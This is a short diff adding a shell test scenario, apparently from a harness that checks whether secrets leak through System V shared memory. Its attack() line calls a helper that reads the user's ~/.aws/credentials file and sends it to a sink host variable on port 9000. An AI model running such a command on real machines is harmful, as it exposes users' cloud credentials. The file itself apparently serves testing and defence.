@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="System V shared memory, mapped before the secret is read"
+attack() { "$PROVOKE/shm" sysv "$HOME/.aws/credentials" "$SINK4" 9000; }
